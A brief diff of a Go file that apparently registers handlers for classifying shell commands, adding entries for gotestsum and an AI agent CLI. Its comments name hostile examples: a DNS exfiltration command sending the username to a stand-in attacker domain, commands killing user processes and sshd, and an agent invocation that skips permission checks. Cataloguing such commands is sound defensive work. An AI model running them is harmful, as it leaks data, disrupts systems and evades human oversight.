@@ -51,6 +51,8 @@ func loadPrograms() {
 		addKillHandlers(handlers)           // killtargets.go: pkill -u $USER, killall sshd
 		addDNSHandlers(handlers)            // dnsexfil.go: dig $(whoami).evil.example
 		addTextToolHandlers(handlers)       // texttools.go: iconv, bc, history
+		addGotestsumHandlers(handlers)      // gotestsum.go: go test behind a formatter
+		addAgentCLIHandlers(handlers)       // agentcli.go: claude --dangerously-skip-permissions
 		programs.handlers, programs.codeRunners = handlers, codeRunners
 	})
 }
